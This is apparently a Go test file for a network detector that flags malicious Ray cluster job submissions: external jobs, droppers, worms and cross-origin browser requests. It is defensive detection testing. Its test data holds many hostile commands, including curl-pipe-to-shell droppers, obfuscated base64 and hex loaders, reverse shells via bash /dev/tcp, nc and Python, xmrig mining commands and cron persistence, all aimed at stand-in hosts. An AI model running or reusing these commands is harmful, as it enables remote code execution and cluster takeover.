package jobsubmit

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/decoders/dns"
	"github.com/raytap/raytap/decoders/http"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/detectors/command"
	"github.com/raytap/raytap/detectors/detectortest"
	"github.com/raytap/raytap/interpreters/ray"
)

// hop is one submission on the wire.
type hop struct {
	at       float64 // seconds
	src, dst string  // address and, for dst, port
	target   string
	header   string
	body     string
	version  string
	status   int
	server   string
	got      string
	change   func(*http.Transaction)
}

const (
	attacker = "203.0.113.66"
	dev      = "10.20.0.20"
	proxy    = "10.20.0.30"
	head     = "10.20.0.10"
	accepted = `{"job_id": "raysubmit_AAAAAAAAAAAAAAAA", "submission_id": "raysubmit_AAAAAAAAAAAAAAAA"}`
	curl     = "User-Agent: curl/7.88.1\nContent-Type: application/json\n"
	sdk      = "User-Agent: python-requests/2.34.2\nContent-Type: application/json\n"
)

func (h hop) tx() *http.Transaction {
	if h.target == "" {
		h.target = "/api/jobs/"
	}
	if !strings.Contains(h.dst, ":") {
		h.dst += ":8265"
	}
	if h.version == "" {
		h.version = "1.1"
	}
	if h.server == "" {
		h.server = "Python/3.11 aiohttp/3.14.5"
	}
	at := capture.At{Time: capture.Time(1e18) + capture.Time(h.at*1e9), Packet: 100 + uint64(h.at*10)}
	t := &http.Transaction{At: at, Depth: 1,
		Flow: &capture.Flow{UID: "C" + h.src + h.dst, Proto: capture.ProtoTCP,
			Orig: netip.AddrPortFrom(netip.MustParseAddr(h.src), 40000), Resp: netip.MustParseAddrPort(h.dst)},
		Request: &http.Request{At: at, Done: capture.At{Time: at.Time, Packet: at.Packet + 1}, Method: "POST", Target: h.target, Version: h.version,
			Header: fields(h.header), Body: http.Body{Len: int64(len(h.body)), Data: []byte(h.body), Complete: true}},
	}
	if h.status != 0 {
		t.Response = &http.Response{At: capture.At{Time: at.Time + 1e7, Packet: at.Packet + 2}, Status: h.status, Version: "1.1",
			Header: fields("Content-Type: application/json; charset=utf-8\nServer: " + h.server),
			Body:   http.Body{Len: int64(len(h.got)), Data: []byte(h.got), Complete: true}}
	}
	if h.change != nil {
		h.change(t)
	}
	return t
}

func fields(s string) (h http.Header) {
	for _, l := range strings.Split(strings.TrimSpace(s), "\n") {
		if n, v, ok := strings.Cut(l, ": "); ok {
			h = append(h, http.Field{Name: n, Value: v})
		}
	}
	return h
}

func job(cmd string) string {
	b, err := json.Marshal(map[string]string{"entrypoint": cmd})
	if err != nil {
		panic(err)
	}
	return string(b)
}

// ran is a job that the server took.
func ran(src, dst, header, body string) hop {
	return hop{src: src, dst: dst, header: header, body: body, status: 200, got: accepted}
}

// watch publishes the hops in order, and the end of all flows behind them.
func watch(t *testing.T, hops ...hop) []*detectors.Finding {
	t.Helper()
	bus := detectortest.New(Spec(), nil)
	var flows []*capture.Flow
	var last capture.At
	for _, h := range hops {
		x := h.tx()
		bus.Publish(x)
		if c := ray.Interpret(x); c != nil {
			bus.Publish(c)
		}
		flows = append(flows, x.Flow)
		last = x.At
	}
	for _, f := range flows {
		bus.Publish(&capture.Conn{At: last, Flow: f})
	}
	return bus.Found
}

func find(list []*detectors.Finding, rule string) *detectors.Finding {
	for _, f := range list {
		if f.Rule == rule {
			return f
		}
	}
	return nil
}

func rulesOf(list []*detectors.Finding) string {
	var s []string
	for _, f := range list {
		s = append(s, f.Rule+" "+f.Severity.String()+" "+f.Src.String()+">"+f.Dst.String())
	}
	return strings.Join(s, "; ")
}

func TestExternalJobBySeverityOfItsOutcome(t *testing.T) {
	refuse := func(status int, text string) hop {
		return hop{src: attacker, dst: head, header: curl, body: job("id"), status: status, got: text}
	}
	cases := []struct {
		name string
		hop  hop
		sev  detectors.Severity
		out  detectors.Outcome
	}{
		{"taken", ran(attacker, head, curl, job("id")), detectors.Critical, detectors.Succeeded},
		{"no answer", hop{src: attacker, dst: head, header: curl, body: job("id")}, detectors.High, detectors.Unknown},
		{"no token", refuse(401, "Unauthorized: Missing authentication token"), detectors.Medium, detectors.Attempted},
		{"browser guard", refuse(405, "Method Not Allowed for browser traffic."), detectors.Medium, detectors.Attempted},
		{"bad request", refuse(400, "Traceback ... JobSubmitRequest"), detectors.Medium, detectors.Attempted},
		{"IPv6", ran("2001:db8::66", "[fd00::10]:8265", curl, job("id")), detectors.Critical, detectors.Succeeded},
		{"another port", ran(attacker, head+":443", curl, job("id")), detectors.Critical, detectors.Succeeded},
	}
	for _, c := range cases {
		f := find(watch(t, c.hop), "jobsubmit/external")
		if f == nil || f.Severity != c.sev || f.Outcome != c.out {
			t.Errorf("%s: %+v", c.name, f)
		}
	}
	f := find(watch(t, ran(attacker, head, curl, job("curl http://198.51.100.77:8000/a.sh | sh"))), "jobsubmit/external")
	if want := "203.0.113.66 ran a job on the Ray cluster at 10.20.0.10:8265: curl http://198.51.100.77:8000/a.sh | sh"; f.Msg != want {
		t.Errorf("%s", f.Msg)
	}
	if f.Evidence[0].Packet == 0 || f.Flow == nil || f.Port != 8265 {
		t.Errorf("%+v", f)
	}
}

func TestWorkFromInsideIsQuiet(t *testing.T) {
	kuberay := "User-Agent: Go-http-client/1.1\nContent-Type: application/json\n"
	for _, h := range []hop{
		ran(dev, head, sdk, `{"entrypoint": "python train.py", "runtime_env": {"working_dir": "gcs://_ray_pkg_4b9ea2decce13836.zip"}, "metadata": {}}`),
		ran(dev, head, kuberay, `{"runtime_env":{"pip":["torch==2.4.0","git+https://github.com/huggingface/transformers"],"env_vars":{"HF_TOKEN":"hf_x","LD_PRELOAD":"/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"}},"entrypoint":"python a.py \u003e out.txt","submission_id":"rayjob-x7k2p"}`),
		ran(dev, head, curl, job("bash run.sh")),
		ran(dev, head, sdk, `{"entrypoint": "python a.py", "runtime_env": {"working_dir": "https://github.com/user/repo/archive/HEAD.zip"}, "metadata": {}}`),
		ran(dev, head, sdk, `{"entrypoint": "python a.py", "runtime_env": {"working_dir": "http://10.20.0.30/app.zip", "pip": ["--extra-index-url https://download.pytorch.org/whl/cu121", "torch"]}}`),
		{src: dev, dst: proxy + ":80", header: curl, body: `{"entrypoint":"this is a jobs endpoint of another product","title":"Engineer"}`, status: 404, server: "nginx/1.22.1", got: "<html>"},
	} {
		if f := watch(t, h); len(f) > 0 {
			t.Errorf("%s: %s: %s", h.body, rulesOf(f), f[0].Sub)
		}
	}
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestDroppers(t *testing.T) {
	hexed := ""
	for _, c := range []byte("curl http://198.51.100.77/x.sh|sh") {
		hexed += fmt.Sprintf("\\x%02x", c)
	}
	for _, cmd := range []string{
		"curl -s http://198.51.100.77/x.sh | bash",
		"curl http://198.51.100.77/x.sh|sh",
		"wget -qO- http://203.0.113.9/rondo.wns.sh|sh",
		"id; curl -fsSL http://evil.example/run | sudo bash -s -- a",
		"curl -s http://198.51.100.77/x.gz | gunzip | bash",
		"bash -c \"$(curl -fsSL http://198.51.100.77/x)\"",
		"bash <(curl -s http://198.51.100.77/x)",
		"eval \"$(wget -qO- http://198.51.100.77/x)\"",
		"sh -c `curl http://198.51.100.77/x`",
		"python3 <(curl -s http://198.51.100.77/x.py)",
		"curl -s http://198.51.100.77/x.py | python3 -",
		"wget http://198.51.100.77/a.sh && chmod +x a.sh && ./a.sh",
		"cd /tmp; curl -O http://198.51.100.77/.x; chmod 777 .x; nohup ./.x &",
		"curl -o /tmp/k 198.51.100.77/k; sh /tmp/k",
		"wget http://evil.example/bot -O /dev/shm/b; chmod +x /dev/shm/b; /dev/shm/b",
		"echo " + b64("curl -s http://198.51.100.77/x.sh|bash\n") + " | base64 -d | bash",
		"echo " + b64("id; uname -a; ls /") + " | base64 -d | sh",
		"echo " + b64("echo "+b64("curl http://198.51.100.77/x.sh|sh")+"|base64 -d|sh") + "|base64$IFS-d|sh",
		"eval $(echo " + b64("wget http://198.51.100.77/x") + " | base64 --decode)",
		"echo 6375726c|xxd -r -p|sh",
		"printf '" + hexed + "' | sh",
		"python3 -c \"import base64;exec(base64.b64decode('" + b64("import os;os.system('id')") + "'))\"",
		"python -c \"import urllib.request as u;exec(u.urlopen('http://198.51.100.77/p').read())\"",
		"python -c \"exec(__import__('requests').get('http://198.51.100.77/p').text)\"",
		"python -c \"import zlib,base64;exec(zlib.decompress(base64.b64decode('eJw=')))\"",
		"bash -i >& /dev/tcp/198.51.100.77/4444 0>&1",
		"nc -e /bin/sh 198.51.100.77 4444",
		"ncat 198.51.100.77 4444 --exec /bin/bash",
		"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.77 4444 >/tmp/f",
		"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.77\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])'",
		"python -c 'import pty;pty.spawn(\"/bin/bash\")'",
		"socat tcp:198.51.100.77:4444 exec:/bin/sh",
		"wget -q http://198.51.100.77/xmrig-6.21.0-linux-static-x64.tar.gz -O /tmp/.x",
		"./xmrig -o pool.supportxmr.com:443 -u 45MinZ6ECgTgxn8gbm5gAsK9ATrEN6N95hbH3g4r5N4bKwH8QxuFygw3G7VwHwAusR9L35E4YjWYdTJaWDjbMGDCKYNz5X1",
		"/tmp/a --url stratum+tcp://198.51.100.44:3333 --user x",
		"/tmp/.k -u 45MinZ6ECgTgxn8gbm5gAsK9ATrEN6N95hbH3g4r5N4bKwH8QxuFygw3G7VwHwAusR9L35E4YjWYdTJaWDjbMGDCKYNz5X1 -o 198.51.100.44:443",
		"python a.py # " + strings.Repeat("curl nc socket pool ", 2000) + "\ncurl http://198.51.100.77/x | sh",
		"./rigel -a progpowz -o eu.zano.k1pool.com:8866 -u x",
		"nslookup 8aiyo5mgykq64faalgyr.oast.fun",
		"cu''rl -s http://198.51.100.77/x|ba''sh",
		"c\\url http://198.51.100.77/x | b\\ash",
		"{curl,-s,http://198.51.100.77/x}|bash",
		"curl${IFS}http://198.51.100.77/x|bash",
		"$'\\x63\\x75\\x72\\x6c' http://198.51.100.77/x | $'\\x62\\x61\\x73\\x68'",
		"echo 'hs|x/77.001.15.891//:ptth lruc' | rev | sh",
		"(crontab -l; echo '*/15 * * * * curl -fsSLk http://evil.example/mon.sh | bash') | crontab -",
		"for i in 1 2; do curl -X POST http://192.0.2.$i:8265/api/jobs/ -d '{\"entrypoint\":\"x\"}'; done",
		"python -c \"import os;os.system('curl http://198.51.100.77/a.sh | sh')\"",
		"python -c \"import subprocess; subprocess.run('wget http://198.51.100.77/a -O /tmp/a && chmod +x /tmp/a && /tmp/a', shell=True)\"",
		"curl http://3325256781/x | sh",
		"curl -s http://198.51.100.77/x.sh | tee /tmp/log | /bin/bash",
	} {
		f := find(watch(t, ran(dev, head, curl, job(cmd))), "jobsubmit/dropper")
		if f == nil || f.Severity != detectors.High || f.Outcome != detectors.Succeeded {
			v := assess(command.New(nil, nil), ray.Interpret(ran(dev, head, curl, job(cmd)).tx()))
			t.Errorf("%s\n\tscore %d %+v", cmd, v.Score(), v.Facts)
			continue
		}
		if f = find(watch(t, ran(attacker, head, curl, job(cmd))), "jobsubmit/dropper"); f.Severity != detectors.Critical {
			t.Errorf("%s: %s from outside", cmd, f.Severity)
		}
	}
}

// A script of somebody's that is run by one of ours is for the record; run by somebody outside it is an attack.
func TestScriptsFromRepositoriesByWhoRunsThem(t *testing.T) {
	for _, cmd := range []string{
		"curl -s https://raw.githubusercontent.com/a/b/refs/heads/main/run.sh | bash",
		"curl -fsSL https://install.vendor.example/x.sh | sh",
		"bash <(wget -qO- https://gitlab.com/a/b/-/raw/main/setup.sh)",
	} {
		if f := find(watch(t, ran(dev, head, curl, job(cmd))), "jobsubmit/dropper"); f == nil || f.Severity != detectors.Low {
			t.Errorf("%s from inside: %+v", cmd, f)
		}
		if f := find(watch(t, ran(attacker, head, curl, job(cmd))), "jobsubmit/dropper"); f == nil || f.Severity != detectors.Critical {
			t.Errorf("%s from outside: %+v", cmd, f)
		}
	}
}

func TestTrainingIsNoDropper(t *testing.T) {
	for _, cmd := range []string{
		"python train.py --lr 0.001 --batch-size 64 --tokenizer gpt2",
		"torchrun --nproc_per_node=8 --master_addr 10.20.0.10 --master_port 29500 train.py",
		"bash run.sh",
		"./run.sh --nodes 4 && python eval.py > /tmp/eval.log 2>&1",
		"wget https://dl.fbaipublicfiles.com/glue/data/QQP.zip && unzip QQP.zip && python train.py",
		"wget http://images.cocodataset.org/zips/train2017.zip -P /data && python preprocess.py",
		"curl -f http://localhost:8000/-/healthz && python load_test.py",
		"curl -s http://10.20.0.10:8265/api/version | python3 -m json.tool",
		"curl -s https://api.github.com/repos/ray-project/ray | python -c \"import json,sys;print(json.load(sys.stdin)['id'])\"",
		"curl -s http://10.20.0.30/models.txt | grep llama | head -1",
		"pip install -r requirements.txt && python main.py",
		"pip install torch --index-url https://download.pytorch.org/whl/cu121 && python main.py",
		"git clone https://github.com/karpathy/nanoGPT && cd nanoGPT && python train.py config/train_shakespeare_char.py",
		"python -c \"import ray; ray.init(); print(ray.cluster_resources())\"",
		"python -c \"import ray; ray.init(); print(ray.nodes())\"",
		"python -m ray.rllib.train --algo PPO --env CartPole-v1",
		"curl -LsSf https://astral.sh/uv/install.sh | sh && uv run train.py",
		"curl -O http://10.20.0.30/setup.sh && bash setup.sh && python train.py",
		"aws s3 cp s3://bucket/data.tar.gz - | tar xz && python train.py",
		"nohup python serve.py > /dev/null 2>&1 &",
		"mkdir -p /tmp/out && chmod 755 /tmp/out && python a.py --out /tmp/out",
		"accelerate launch --config_file cfg.yaml train.py hydra.run.dir=/tmp/hydra",
		"echo $CONFIG_B64 | base64 -d > config.json && python main.py --config config.json",
		"cat job.py | python -",
		"CUDA_VISIBLE_DEVICES=0,1 PYTHONPATH=. python -m vllm.entrypoints.api_server --model meta-llama/Llama-3",
		"ray job list; ray status; python a.py || bash fallback.sh",
		"curl -s http://10.20.0.30/ready || sh ./wait.sh",
		"tar czf - out | ssh backup@10.20.0.30 'cat > out.tgz'",
		"python pool.py --workers 8 --pool process",
		"python mine_patterns.py --miner apriori",
		"sha256sum -c 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.sum",
		"huggingface-cli download meta-llama/Llama-3 --token $HF_TOKEN && python run.py",
		"printenv | sort && nvidia-smi && python -u main.py",
		"python bench.py --dataset /data/IyBIZWxsbyB3b3JsZCwgdGhpcyBpcyBhIHJlYWRtZQ==.txt",
		"jq -r .a config.json | xargs -I{} python run.py {}",
		"python - <<'EOF'\nimport ray\nray.init()\n@ray.remote\ndef f(): return 1\nprint(ray.get(f.remote()))\nEOF",
	} {
		x := ran(dev, head, curl, job(cmd))
		if f := watch(t, x); len(f) > 0 {
			t.Errorf("%s\n\t%s: %s", cmd, rulesOf(f), f[0].Sub)
		}
	}
}

func TestRuntimeEnvAsDropper(t *testing.T) {
	for _, env := range []string{
		`{"working_dir":"http://198.51.100.77/pkg.zip"}`,
		`{"py_modules":["https://203.0.113.9/m.zip"]}`,
		`{"pip":["http://203.0.113.9/evil-1.0.whl"]}`,
		`{"pip":{"packages":["a"],"pip_install_options":["--index-url http://203.0.113.9/simple"]}}`,
		`{"env_vars":{"LD_PRELOAD":"/tmp/x.so"}}`,
		`{"env_vars":{"X":"curl http://198.51.100.77/x.sh | bash"}}`,
		`{"py_executable":"bash -c 'curl http://198.51.100.77/x.sh | bash' #"}`,
		`{"worker_process_setup_hook":"import os;os.system('curl http://198.51.100.77/x.sh | bash')"}`,
	} {
		f := find(watch(t, ran(dev, head, sdk, `{"entrypoint":"python a.py","runtime_env":`+env+`}`)), "jobsubmit/dropper")
		if f == nil {
			t.Errorf("%s: silent", env)
		}
	}
}

func TestDecodedTextIsShown(t *testing.T) {
	f := find(watch(t, ran(attacker, head, curl, job("echo "+b64("curl -s http://198.51.100.77/x.sh|bash")+"|base64 -d|sh"))), "jobsubmit/dropper")
	if f == nil {
		t.Fatal("silent")
	}
	for _, e := range f.Evidence {
		if e.Field == "decoded" && strings.Contains(e.Value, "curl -s http://198.51.100.77/x.sh") {
			return
		}
	}
	t.Errorf("%+v", f.Evidence)
}

func TestSecretsAreMasked(t *testing.T) {
	cmd := "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY HF_TOKEN=hf_AbCdEfGhIjKlMnOpQrSt; git clone https://me:hunter22@git.example/x; " +
		"echo " + b64("PASSWORD=hunter33 curl http://u:hunter44@198.51.100.77/x|sh") + "|base64 -d|sh"
	found := watch(t, ran(attacker, head, curl, job(cmd)))
	all := ""
	for _, f := range found {
		all += f.Msg + f.Sub
		for _, e := range f.Evidence {
			if !strings.Contains(e.Field, "request") {
				all += e.Value
			}
		}
	}
	for _, s := range []string{"wJalr", "AbCdEfGh", "hunter22", "hunter33", "hunter44"} {
		if strings.Contains(all, s) {
			t.Errorf("%s is shown: %s", s, all)
		}
	}
	if len(found) < 2 {
		t.Error(rulesOf(found))
	}
}

// The tap sees a proxied job twice, the inner hop completed first; only the outer pair is accused.
func TestInnerHopOfAProxyIsQuiet(t *testing.T) {
	cmd := job("curl http://198.51.100.77/x.sh | bash")
	outer := ran(attacker, proxy+":80", curl, cmd)
	outer.target, outer.server = "/ray/api/jobs/", "nginx/1.22.1"
	inner := ran(proxy, head, curl, cmd)
	inner.version, inner.at = "1.0", 0.001
	plain := inner // a proxy that leaves no marks
	plain.version = "1.1"
	for _, order := range [][]hop{{inner, outer}, {outer, inner}, {plain, outer}} {
		found := watch(t, order...)
		for _, f := range found {
			if f.Src.String() == proxy {
				t.Errorf("accuses the proxy: %s", f.Msg)
			}
		}
		if find(found, "jobsubmit/external") == nil || find(found, "jobsubmit/dropper") == nil || len(found) != 2 {
			t.Error(rulesOf(found))
		}
	}
	// A worm inside that is sent by what it was sent is no hop.
	spread := ran(head, "10.20.0.11:8265", curl, cmd)
	spread.at, spread.got = 3, `{"job_id": "raysubmit_B", "submission_id": "raysubmit_B"}`
	if f := watch(t, ran(attacker, head, curl, cmd), spread); f[len(f)-1].Src.String() != head {
		t.Error("the second victim was not seen: " + rulesOf(f))
	}
	// The outer hop was TLS: what the proxy sent is all there is, and it is said when the flow ends.
	if f := find(watch(t, inner), "jobsubmit/dropper"); f == nil {
		t.Error("an inner hop without an outer one was swallowed")
	}
	// Or when time has gone by.
	later := ran(dev, head, sdk, job("python a.py"))
	later.at = 60
	if f := find(watch(t, inner, later), "jobsubmit/dropper"); f == nil || f.Src.String() != proxy {
		t.Error("an inner hop was not let go")
	}
}

// The head hands a job to an agent with all keys, the absent as null.
// TestBalancerThatNamesItsClient: a job that a balancer hands on for somebody is one job, and that somebody's, whichever of
// the two connections is complete first; what another sends is another.
func TestBalancerThatNamesItsClient(t *testing.T) {
	named := func(h hop) hop {
		h.change = func(t *http.Transaction) {
			t.Flow = t.Flow.For(capture.Via{Client: netip.MustParseAddrPort(attacker + ":50000"), Packet: 7, Believed: true})
		}
		return h
	}
	outer, inner := ran(attacker, proxy, curl, job("id")), named(ran(proxy, head, curl, job("id")))
	for _, hops := range [][]hop{{inner}, {outer, inner}, {inner, outer}} {
		found := watch(t, hops...)
		f := find(found, "jobsubmit/external")
		if len(found) != 1 || f == nil || f.Src.String() != attacker {
			t.Errorf("%d hops: %s", len(hops), rulesOf(found))
			continue
		}
		if e := f.Evidence[len(f.Evidence)-1]; hops[0].dst == head && (e.Field != "proxy" || e.Packet != 7 || e.Value != proxy+":40000 speaks for "+attacker+":50000 (PROXY protocol)") {
			t.Errorf("%+v", e)
		}
	}
	if found := watch(t, inner, ran("203.0.113.90", "10.20.0.31", curl, job("id"))); len(found) != 2 {
		t.Errorf("two balancers: %s", rulesOf(found))
	}
}

func TestHeadToAgentIsNoSecondJob(t *testing.T) {
	cmd := "curl http://198.51.100.77/x.sh | bash"
	inner := ran(head, "10.20.0.11:52365", "User-Agent: Python/3.11 aiohttp/3.9.5\n", `{"entrypoint": "`+cmd+`", "submission_id": "raysubmit_x", "job_id": null, "runtime_env": {}, "metadata": {}, "entrypoint_num_cpus": null, "entrypoint_num_gpus": null, "entrypoint_memory": null, "entrypoint_resources": null}`)
	inner.target, inner.at = "/api/job_agent/jobs/", 0.002
	found := watch(t, inner, ran(attacker, head, curl, job(cmd)))
	for _, f := range found {
		if f.Src.String() != attacker {
			t.Errorf("%s", f.Msg)
		}
	}
	if find(found, "jobsubmit/external") == nil {
		t.Error(rulesOf(found))
	}
}

func TestWorm(t *testing.T) {
	in := ran(attacker, head, curl, job("curl http://198.51.100.77/w.sh | sh"))
	out := ran(head, "192.0.2.80:8265", curl, job("curl http://198.51.100.77/w.sh | sh"))
	out.at, out.server = 5, "BaseHTTP/0.6"
	f := find(watch(t, in, out), "jobsubmit/outbound")
	if f == nil || f.Severity != detectors.Critical || f.Src.String() != head || !strings.Contains(f.Sub, "given a job itself by "+attacker) {
		t.Fatalf("%+v", f)
	}
	out.status, out.got = 401, "Unauthorized: Missing authentication token"
	if f = find(watch(t, in, out), "jobsubmit/outbound"); f == nil || f.Severity != detectors.High || f.Outcome != detectors.Attempted {
		t.Fatalf("%+v", f)
	}
	// Somebody's own cluster in a cloud.
	cloud := ran(dev, "192.0.2.80:8265", sdk+"Authorization: Bearer x\n", `{"entrypoint": "python a.py", "runtime_env": {}, "metadata": {}}`)
	if f = find(watch(t, cloud), "jobsubmit/outbound"); f == nil || f.Severity != detectors.Medium {
		t.Fatalf("%+v", f)
	}
	if f = find(watch(t, out), "jobsubmit/external"); f != nil {
		t.Errorf("a home machine is no outsider: %s", f.Msg)
	}
}

func TestBrowsers(t *testing.T) {
	const chrome = "User-Agent: Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/156.0.0.0 Safari/537.36\nAccept-Language: en\n"
	guard := func(h hop) hop {
		h.status, h.got = 405, "'POST' method not allowed for browser traffic."
		return h
	}
	foreign := ran(dev, head, chrome+"Host: 10.20.0.10:8265\nContent-Type: text/plain;charset=UTF-8\nOrigin: http://evil.example:8088\nReferer: http://evil.example:8088/\n", job("id"))
	cases := []struct {
		name string
		hop  hop
		sev  detectors.Severity
	}{
		{"another origin", foreign, detectors.Critical},
		{"another origin, refused", guard(foreign), detectors.High},
		{"null origin", ran(dev, head, chrome+"Host: 10.20.0.10:8265\nOrigin: null\n", job("id")), detectors.Critical},
		{"referer alone", ran(dev, head, chrome+"Host: 10.20.0.10:8265\nReferer: http://evil.example/x\n", job("id")), detectors.Critical},
		{"cross-site by Sec-Fetch", ran(dev, head, chrome+"Host: 10.20.0.10:8265\nSec-Fetch-Site: cross-site\n", job("id")), detectors.Critical},
		{"rebinding", ran(dev, head, "User-Agent: Other\nHost: rebind.evil.example:8265\nOrigin: http://rebind.evil.example:8265\nSec-Fetch-Site: same-origin\nSec-Fetch-Mode: cors\nContent-Type: text/plain;charset=UTF-8\n", job("id")), detectors.Critical},
		{"a portal of one's own, perhaps", ran(dev, head, chrome+"Host: ray.corp-portal.example\nOrigin: http://ray.corp-portal.example\nContent-Type: application/json\n", job("python a.py")), detectors.High},
	}
	for _, c := range cases {
		f := find(watch(t, c.hop), "jobsubmit/browser")
		if f == nil || f.Severity != c.sev {
			t.Errorf("%s: %+v", c.name, f)
		}
	}
	for name, h := range map[string]hop{
		"curl":                               ran(dev, head, curl, job("id")),
		"a bot that says Mozilla":            ran(attacker, head, "User-Agent: Mozilla/5.0 (rondo2012@atomicmail.io)\nHost: 198.51.100.1:8265\n", job("id")),
		"a page of the server's own":         ran(dev, head, chrome+"Host: 10.20.0.10:8265\nOrigin: http://10.20.0.10:8265\nReferer: http://10.20.0.10:8265/\nContent-Type: application/json\n", job("python a.py")),
		"a proxy that renamed the host":      ran(dev, head, chrome+"Host: 10.20.0.10:8265\nX-Forwarded-Host: ray.lan\nOrigin: http://ray.lan\nContent-Type: application/json\n", job("python a.py")),
		"the SDK, which sends no such thing": ran(dev, head, sdk+"Host: ray.example.com\n", job("python a.py")),
	} {
		if f := find(watch(t, h), "jobsubmit/browser"); f != nil {
			t.Errorf("%s: %s", name, f.Msg)
		}
	}
}

// TestPortalOfOnesOwn: a public name that was only ever looked up as an address at home is no page of anybody else's.
func TestPortalOfOnesOwn(t *testing.T) {
	const name = "ray.corp-portal.example"
	portal := ran(dev, head, "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Chrome/156.0.0.0 Safari/537.36\nHost: "+name+"\nOrigin: http://"+name+"\nContent-Type: application/json\n", job("python a.py"))
	for _, c := range []struct {
		name  string
		addrs []string
		want  bool
	}{
		{"an address at home", []string{head}, false},
		{"one outside, and then one at home", []string{"198.51.100.77", head}, true},
		{"one at home, and then one outside", []string{head, "198.51.100.77"}, true},
		{"nobody looked it up", nil, true},
	} {
		bus := detectortest.New(Spec(), nil)
		for _, a := range c.addrs {
			bus.Publish(&dns.Transaction{Query: name, NameID: 7, Type: 1, Answered: true, Answers: []dns.Answer{{Name: name, Type: 1, Addr: netip.MustParseAddr(a)}}})
		}
		x := portal.tx()
		bus.Publish(x)
		bus.Publish(ray.Interpret(x))
		if got := find(bus.Found, "jobsubmit/browser") != nil; got != c.want {
			t.Errorf("%s: said %v, want %v", c.name, got, c.want)
		}
	}
}

func TestEvasiveJob(t *testing.T) {
	h := ran(attacker, head, curl, `{"entrypoint":"\u0063url http://198.51.100.77/x.sh|bash"}`)
	h.change = func(x *http.Transaction) {
		x.Request.Body.Chunked, x.Request.Body.Chunks, x.Request.Body.TinyChunk = true, 11, 5
	}
	f := find(watch(t, h), "jobsubmit/evasive")
	if f == nil || f.Severity != detectors.Medium || f.Sub != "escaped_text, tiny_chunks" {
		t.Fatalf("%+v", f)
	}
	h.status, h.got = 400, "x JobSubmitRequest"
	if f = find(watch(t, h), "jobsubmit/evasive"); f == nil || f.Severity != detectors.Low {
		t.Fatalf("%+v", f)
	}
}

func FuzzJudge(f *testing.F) {
	f.Add("curl http://198.51.100.77/x | sh", "http://a/b.zip", "LD_PRELOAD", "/tmp/x")
	f.Add("echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43Ny94LnNofGJhc2gK | base64 -d | bash", "", "", "")
	f.Add("$'\\x63\\x75' {curl,-s} c''u\"r\"l \\x63\\x75\\x72\\x6c rev rot13", "https://[::1]/x", "PATH", "$(id)")
	f.Add("wget -O x 1.2.3.4/x; chmod +x x; ./x", "//", "a", "|")
	f.Fuzz(func(t *testing.T, cmd, uri, name, value string) {
		c := &ray.Call{Entrypoint: cmd}
		c.RuntimeEnv.URIs, c.RuntimeEnv.Packages = []string{uri}, []string{uri}
		c.RuntimeEnv.Loads = []ray.Param{{Name: name, Value: value}}
		c.RuntimeEnv.Commands = []ray.Param{{Name: name, Value: value}}
		c.RuntimeEnv.PyExec, c.RuntimeEnv.Image = value, uri
		v := assess(command.New(nil, nil), c)
		if len(v.Facts) > 64 || len(v.Decoded) > 64 {
			t.Error("a bound does not hold")
		}
		for _, x := range v.Facts {
			if len(x.What) > 512 {
				t.Errorf("%s: %d bytes", x.Name, len(x.What))
			}
		}
	})
}
